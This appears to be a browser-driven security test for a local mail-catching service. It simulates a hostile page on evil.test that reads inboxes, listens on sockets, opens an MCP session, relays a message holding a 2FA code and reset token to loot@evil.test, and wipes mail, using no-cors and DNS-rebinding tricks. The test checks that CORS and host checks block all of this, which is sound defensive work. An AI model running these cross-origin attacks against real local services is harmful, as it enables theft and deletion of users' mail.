import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { fileURLToPath } from 'node:url'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchBrowser } from './inbox-support.js'
import { startOutgoing, type Outgoing } from './support/outgoing.js'
import { startSvc, type TestSvc } from './support/svc.js'

/*
 * An attacker's web page on another origin, in a real Chromium, against svc on
 * loopback: what 3.0 let any page do (read, listen, wipe, relay) it must no
 * longer do, unless svc was started with --cors listing that origin.
 */

let browser: Browser
let outgoing: Outgoing
let attacker: Server
let attackerOrigin: string

beforeAll(async () => {
  outgoing = await startOutgoing()
  attacker = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>evil</title><p>cat pictures'))
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
  attackerOrigin = `http://evil.test:${(attacker.address() as AddressInfo).port}`
  browser = await launchBrowser(['--host-resolver-rules=MAP evil.test 127.0.0.1'])
})

afterAll(async () => {
  await browser?.close()
  await new Promise((resolve) => attacker?.close(resolve))
  await outgoing?.close()
})

/** What one attempt from the page got: the status and body it could read, or the error that stopped it. */
type Attempt = { status: number; body: string } | { error: string }

/** Every attack of the page, run in the page against `svc`. */
interface Attacks {
  config: Attempt
  list: Attempt
  source: Attempt
  /** Socket.IO over WebSocket only, and with the default transports (polling first). */
  websocket: string
  polling: string
  /** The `newMail` the page heard while connected, if any. */
  heard: string
  mcp: Attempt
  relay: Attempt
  deleteOne: Attempt
  deleteAll: Attempt
}

/** Opens the attacker's page and runs the attacks from it; `mail` is sent while its sockets are connected. */
async function attack(page: Page, t: TestSvc, id: string, mail: () => Promise<unknown>): Promise<Attacks> {
  await page.goto(`${attackerOrigin}/`)
  const svc = t.baseUrl
  // The page brings its own copy of the client (svc refuses another site's <script> of it); what it may then do is the question.
  await page.addScriptTag({ path: fileURLToPath(new URL('../node_modules/socket.io/client-dist/socket.io.min.js', import.meta.url)) })
  const reads = await page.evaluate(
    async ({ svc, id }) => {
      const read = async (path: string, init?: RequestInit) => {
        try {
          const response = await fetch(`${svc}${path}`, init)
          return { status: response.status, body: await response.text() }
        } catch (error) {
          return { error: String(error) }
        }
      }
      return {
        config: await read('/api/config'),
        list: await read('/api/email'),
        source: await read(`/api/email/${id}/source`),
        mcp: await read('/mcp', {
          method: 'POST',
          headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
          body: JSON.stringify({
            jsonrpc: '2.0',
            id: 1,
            method: 'initialize',
            params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'evil', version: '1' } },
          }),
        }),
      }
    },
    { svc, id },
  )
  // Sockets first, then the mail they would hear.
  await page.evaluate(
    ({ svc }) => {
      const w = window as unknown as { io: (url: string, options: object) => { on(event: string, listener: (arg: unknown) => void): void }; results: Record<string, string> }
      w.results = { heard: '' }
      for (const [name, transports] of [
        ['websocket', ['websocket']],
        ['polling', ['polling', 'websocket']],
      ] as const) {
        const socket = w.io(svc, { transports, reconnection: false, timeout: 5000 })
        socket.on('connect', () => (w.results[name] = 'connected'))
        socket.on('connect_error', (error) => (w.results[name] = `refused: ${(error as Error).message}`))
        socket.on('newMail', (summary) => (w.results.heard = (summary as { subject: string }).subject))
      }
    },
    { svc },
  )
  await page.waitForFunction(() => {
    const { results } = window as unknown as { results: Record<string, string> }
    return results.websocket !== undefined && results.polling !== undefined
  })
  await mail()
  // Time for a newMail to arrive at a page that is connected; none arrives at one that is not.
  await page.waitForFunction(() => (window as unknown as { results: Record<string, string> }).results.heard !== '', undefined, { timeout: 2000 }).catch(() => {})
  const sockets = await page.evaluate(() => (window as unknown as { results: { websocket: string; polling: string; heard: string } }).results)
  const writes = await page.evaluate(
    async ({ svc, id }) => {
      const send = async (path: string, method: string) => {
        try {
          const response = await fetch(`${svc}${path}`, { method })
          return { status: response.status, body: await response.text() }
        } catch (error) {
          // Also try the way a page gets past a refused preflight: a simple request whose answer it cannot read.
          await fetch(`${svc}${path}`, { method: method === 'DELETE' ? 'POST' : method, mode: 'no-cors' }).catch(() => {})
          return { error: String(error) }
        }
      }
      return {
        relay: await send(`/api/email/${id}/relay/loot@evil.test`, 'POST'),
        deleteOne: await send(`/api/email/${id}`, 'DELETE'),
        deleteAll: await send('/api/email/all', 'DELETE'),
      }
    },
    { svc, id },
  )
  return { ...reads, ...sockets, ...writes }
}

const secret = { subject: 'Your 2FA code is 884211', text: 'Reset: https://app.test/reset?token=s3cr3t' }

describe('with default settings, a page on another origin', () => {
  let t: TestSvc
  let page: Page
  beforeAll(async () => {
    t = await startSvc({ mcp: true, outgoingHost: '127.0.0.1', outgoingPort: outgoing.port })
    page = await browser.newPage()
  })
  afterAll(async () => {
    await page?.close()
    await t?.stop()
  })

  it('cannot read, listen to, relay or wipe the inbox, nor open an MCP session', async () => {
    const { id } = await t.send(secret)
    const before = outgoing.deliveries.length
    const result = await attack(page, t, id, () => t.send({ subject: 'Second code 120934' }))
    for (const name of ['config', 'list', 'source', 'mcp', 'relay', 'deleteOne', 'deleteAll'] as const) {
      expect(result[name], name).toHaveProperty('error')
    }
    expect(result.websocket).toMatch(/^refused/)
    expect(result.polling).toMatch(/^refused/)
    expect(result.heard).toBe('')
    // Nothing happened behind the page's back either, though the simple requests reached svc.
    expect((await t.svc.store.counts()).total).toBe(2)
    expect(outgoing.deliveries.length).toBe(before)
  })

  it('cannot reach svc under a name of its own (DNS rebinding)', async () => {
    const response = await page.goto(`http://evil.test:${new URL(t.baseUrl).port}/api/email`)
    expect(response?.status()).toBe(403)
    expect(await response?.text()).toMatch(/--allowed-hosts/)
  })

  it('still lets the inbox itself read, listen, relay and delete', async () => {
    const inbox = await browser.newPage()
    try {
      await inbox.goto(`${t.baseUrl}/`)
      await inbox.locator('.row[data-id]').first().waitFor()
      const result = await inbox.evaluate(async () => {
        const list = await fetch('api/email/summary').then((r) => r.json())
        const id = list.items[0].id
        const relay = await fetch(`api/email/${id}/relay/inbox@example.net`, { method: 'POST' })
        const removed = await fetch(`api/email/${id}`, { method: 'DELETE' })
        return [relay.status, removed.status]
      })
      expect(result).toEqual([200, 200])
    } finally {
      await inbox.close()
    }
  })
})

describe('with --cors listing the page origin', () => {
  let t: TestSvc
  let page: Page
  beforeAll(async () => {
    t = await startSvc({ mcp: true, outgoingHost: '127.0.0.1', outgoingPort: outgoing.port, cors: [attackerOrigin] })
    page = await browser.newPage()
  })
  afterAll(async () => {
    await page?.close()
    await t?.stop()
  })

  it('the page may read, listen, relay, delete and open an MCP session', async () => {
    const { id } = await t.send(secret)
    const before = outgoing.deliveries.length
    const result = await attack(page, t, id, () => t.send({ subject: 'Second code 120934' }))
    expect(result.config).toMatchObject({ status: 200 })
    expect(result.list).toMatchObject({ status: 200, body: expect.stringContaining('884211') })
    expect(result.source).toMatchObject({ status: 200, body: expect.stringContaining('token=s3cr3t') })
    expect(result.mcp).toMatchObject({ status: 200, body: expect.stringContaining('serverInfo') })
    expect(result.websocket).toBe('connected')
    expect(result.polling).toBe('connected')
    expect(result.heard).toBe('Second code 120934')
    expect(result.relay).toEqual({ status: 200, body: 'true' })
    // The relay answers once the outgoing server accepted the message.
    expect(outgoing.deliveries.slice(before).map((delivery) => delivery.to)).toEqual([['loot@evil.test']])
    expect(result.deleteOne).toEqual({ status: 200, body: 'true' })
    expect(result.deleteAll).toEqual({ status: 200, body: 'true' })
    expect((await t.svc.store.counts()).total).toBe(0)
  })

  it('another origin still gets nothing', async () => {
    const response = await t.api('/api/email', { headers: { origin: 'http://other.test:1234' } })
    expect(response.headers.get('access-control-allow-origin')).toBeNull()
    expect((await t.api('/api/email/all', { method: 'DELETE', headers: { origin: 'http://other.test:1234' } })).status).toBe(403)
  })
})
